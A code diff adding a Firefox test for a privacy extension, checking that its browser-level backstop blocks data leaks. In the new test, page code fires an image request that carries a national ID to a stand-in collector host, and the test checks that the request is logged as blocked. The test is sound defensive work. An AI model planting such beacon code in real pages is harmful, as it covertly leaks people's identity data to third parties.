@@ -2,7 +2,7 @@
 // add-on): the prompt appears with its buttons inside a web page, Don't send / Send once / Trust do
 // what they say for form, fetch, XHR and beacon routes, the popup shows the log, the other extension
 // pages render, and at phone size on a page without a viewport tag the prompt is a readable bottom
-// sheet a person can answer.
+// sheet a person can answer; an image URL carrying the ID is cancelled by the browser-level backstop.
 // One browser for the whole file: a Firefox launch costs seconds.
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Page } from 'puppeteer-core';
@@ -150,5 +150,37 @@ describe('Firefox: phone size', () => {
     await answerFirefox(harness, page, prompt, 'sent-once');
     await expect.poll(() => received(harness, '/api/register').length).toBe(1);
     expect(new URLSearchParams(received(harness, '/api/register')[0]!.body).get('idcard')).toBe(ID);
+  });
+});
+
+describe('Firefox: the browser-level backstop', () => {
+  it('cancels a request the page’s code never made itself (an image whose URL carries the ID) and logs it as stopped; an image without it loads', async () => {
+    await fillApplication();
+    // Typed at a person's pace: the watched values have reached the background a moment later.
+    await settle(1_000);
+    const collector = `http://collector.test:${harness.server.port}`;
+    // Image loads are not wrapped in the page: only the browser-level backstop (blocking webRequest) sees them.
+    // The demo server's collector (/x/) records whatever reaches it.
+    await page.evaluate((origin) => void (new Image().src = `${origin}/x/img/plain?city=beijing`), collector);
+    await expect.poll(() => received(harness, '/x/img/plain').length).toBe(1);
+    await page.evaluate((origin, id) => void (new Image().src = `${origin}/x/img/u?id=${id}`), collector, ID);
+    const blocked = () =>
+      harness.extPage.evaluate(
+        () =>
+          new Promise<{ decision: string; kind: string; destinationSites: string[] }[]>((resolve, reject) => {
+            const open = indexedDB.open('loanguard-log');
+            open.onerror = () => reject(open.error);
+            open.onsuccess = () => {
+              const request = open.result.transaction('events', 'readonly').objectStore('events').getAll();
+              request.onsuccess = () => {
+                open.result.close();
+                resolve((request.result as { decision: string; kind: string; destinationSites: string[] }[]).filter((event) => event.decision === 'blocked'));
+              };
+              request.onerror = () => reject(request.error);
+            };
+          }),
+      );
+    await expect.poll(async () => (await blocked()).map((event) => [event.kind, event.destinationSites[0]]), { timeout: 10_000 }).toContainEqual(['national-id', 'collector.test']);
+    expect(received(harness, '/x/img/u')).toHaveLength(0);
   });
 });
